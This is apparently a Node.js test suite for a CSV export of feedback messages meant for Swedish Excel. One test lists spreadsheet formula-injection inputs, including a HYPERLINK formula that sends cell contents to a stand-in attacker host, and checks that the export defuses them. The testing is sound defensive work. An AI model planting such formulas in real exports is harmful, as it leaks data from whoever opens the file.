// The file for Swedish Excel.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { bearer, inboxOf } from './support/inbox.mjs';
import { message, storeWith } from './support/messages.mjs';
import { load } from './support/receiver.mjs';

const { cell, csv } = await load('inbox.export');

/** Reads it as Excel does: semicolons, CRLF between rows, quotes doubled within quotes. */
function parse(text) {
  assert.equal(text.charCodeAt(0), 0xfeff, 'Excel takes a file without the mark for Windows-1252');
  const rows = [[]];
  const body = text.slice(1);
  const part = /("((?:[^"]|"")*)"|[^;\r\n"]*)(;|\r\n)/gy;
  for (let match; part.lastIndex < body.length;) {
    match = part.exec(body);
    assert.ok(match, 'the file has a cell that cannot be read');
    rows.at(-1).push(match[2] === undefined ? match[1] : match[2].replaceAll('""', '"'));
    if (match[3] === '\r\n' && part.lastIndex < body.length) rows.push([]);
  }
  const [heading, ...rest] = rows;
  return rest.map((row) => Object.fromEntries(heading.map((name, index) => [name, row[index]])));
}

describe('the export', () => {
  it('opens right in Swedish Excel: å, ä, ö, semicolons, quotes and line breaks stay what they are', async (t) => {
    const comment = 'Åäö; ”så” sa hon: "nej"\n\nRad två;\r\nrad tre';
    const store = await storeWith(t, message({ comment, receivedAt: '2022-02-11T09:53:07.000Z' }));
    const { body, headers } = await inboxOf(t, store).get('export.csv');
    assert.equal(headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(headers['content-disposition'], 'attachment; filename="kommentarer-2026-11-24.csv"');
    const [row, ...rest] = parse(body);
    assert.equal(rest.length, 0);
    assert.equal(row.Kommentar, comment);
    assert.equal(row['Mottaget (svensk tid)'], '2022-02-11 10:53');
    assert.equal(row['Mottaget (UTC)'], '2022-02-11T09:53:07.000Z');
    assert.equal(row.Nr, '1');
  });

  it('never gives a spreadsheet a formula, in ordinary or wide letters, in a comment or a page', async (t) => {
    const formulas = [
      '=1+1',
      '+46 70 174 06 05',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '  =1+1',
      '\u00a0=1+1',
      '\ufeff=1+1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      '=HYPERLINK("https://elak.example?"&A1)',
      `"=1+1`,
    ];
    const store = await storeWith(
      t,
      ...formulas.flatMap((text) => [message({ comment: text }), message({ comment: 'x', page: text })]),
    );
    const rows = parse((await inboxOf(t, store).get('export.csv')).body);
    assert.equal(rows.length, 2 * formulas.length);
    for (const value of rows.flatMap((row) => Object.values(row))) {
      assert.doesNotMatch(value, /^[\s\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/);
    }
    // Nothing is lost: what was written stands after the apostrophe.
    assert.deepEqual(
      rows
        .map(({ Kommentar }) => Kommentar.replace(/^'/, ''))
        .filter((text) => text !== 'x')
        .reverse(),
      formulas,
    );
  });

  it('leaves ordinary text as it is', () => {
    assert.equal(cell('5 = 5, a@b.example – ja'), '"5 = 5, a@b.example – ja"');
    assert.equal(cell("'redan"), `"'redan"`);
    assert.equal(cell(undefined), '""');
    assert.equal(cell(17), '17');
  });

  it('counts an answer once where a comment goes on from it, and says which it was', async (t) => {
    const vote = message({ useful: false });
    const store = await storeWith(
      t,
      vote,
      message({ comment: 'därför', follows: vote.idempotencyKey, useful: false }),
      message({ comment: 'tack', useful: true }),
    );
    const rows = parse((await inboxOf(t, store).get('export.csv?allt=ja')).body);
    const brief = rows.map((row) => [row['Hade nytta'], row['Fortsätter på nr'], row['Svarade i det numret']]);
    assert.deepEqual(brief, [
      ['Ja', '', ''],
      ['', '1', 'Nej'],
      ['Nej', '', ''],
    ]);
  });

  it('says in words what is known of each message', async (t) => {
    const store = await storeWith(
      t,
      message({
        comment: 'Ring 070-174 06 05',
        flags: ['phone'],
        notPersonalData: true,
        lang: 'en',
        suspicions: ['many-links'],
      }),
    );
    await store.mark(1, { done: true, needsAction: true });
    const [row] = parse((await inboxOf(t, store).get('export.csv?allt=ja')).body);
    assert.equal(row.Personuppgifter, 'Innehåller ett telefonnummer.');
    assert.equal(row['Enligt den som skrev: inte en personuppgift'], 'Ja');
    assert.equal(row['Språk i formuläret'], 'engelska');
    assert.equal(row['Misstänkt skräp'], 'det innehåller många länkar');
    assert.deepEqual([row['Behöver åtgärd'], row.Klar], ['Ja', 'Ja']);
  });

  it('holds what the list shows; and everything, the suspected and the bare answers too, when everything is asked for', async (t) => {
    const store = await storeWith(
      t,
      message({ comment: 'ny' }),
      message({ comment: 'klar' }),
      message({ useful: true }),
      message({ comment: 'skräp', suspicions: ['honeypot'] }),
    );
    await store.mark(2, { done: true });
    const inbox = inboxOf(t, store);
    const comments = async (query) =>
      parse((await inbox.get(`export.csv${query}`)).body).map(({ Kommentar }) => Kommentar);
    assert.deepEqual(await comments(''), ['ny']);
    assert.deepEqual(await comments('?visa=klara'), ['klar']);
    assert.deepEqual(await comments('?ko=skrap'), ['skräp']);
    assert.deepEqual(
      await comments('?fore=1'),
      ['ny'],
      'which fifty are on the screen is not a choice of what to export',
    );
    assert.deepEqual(await comments('?allt=ja'), ['skräp', '', 'klar', 'ny']);
  });

  it('has every message once, also those that are marked or sent while it is made', async (t) => {
    const store = await storeWith(
      t,
      ...Array.from({ length: 1200 }, (_, index) => message({ comment: `nr ${index + 1}` })),
    );
    const pieces = [];
    for await (const piece of csv(store, {})) {
      pieces.push(piece);
      // The first piece is the heading.
      if (pieces.length === 1) continue;
      await store.keep(message({ comment: 'under tiden' }));
      await store.mark(1200 - 500 * pieces.length, { done: true });
    }
    const ids = parse(pieces.join('')).map(({ Nr }) => Number(Nr));
    assert.deepEqual(
      ids,
      Array.from({ length: 1200 }, (_, index) => 1200 - index),
    );
  });

  it('gives a hundred thousand rows, and asks the store for the next only when the last are on their way', async (t) => {
    const ROWS = 100_000;
    let asked = 0;
    const store = {
      list: async ({ beforeId = ROWS + 1, limit }) => {
        asked += 1;
        const length = Math.min(limit, beforeId - 1);
        return Array.from({ length }, (_, index) => ({
          ...message({ comment: 'x'.repeat(300) }),
          id: beforeId - 1 - index,
        }));
      },
      feedbackByKey: async () => [],
    };
    const rows = csv(store, {});
    await rows.next();
    await rows.next();
    assert.equal(asked, 1);
    let longest = 0;
    let count = 500;
    for await (const piece of rows) {
      longest = Math.max(longest, piece.length);
      count += piece.split('\r\n').length - 1;
    }
    assert.equal(count, ROWS);
    assert.ok(longest < 400_000, `a piece of ${longest} characters`);
    const { body } = await inboxOf(t, store).get('export.csv?allt=ja', bearer);
    assert.equal(body.split('\r\n').length - 2, ROWS);
  });
});
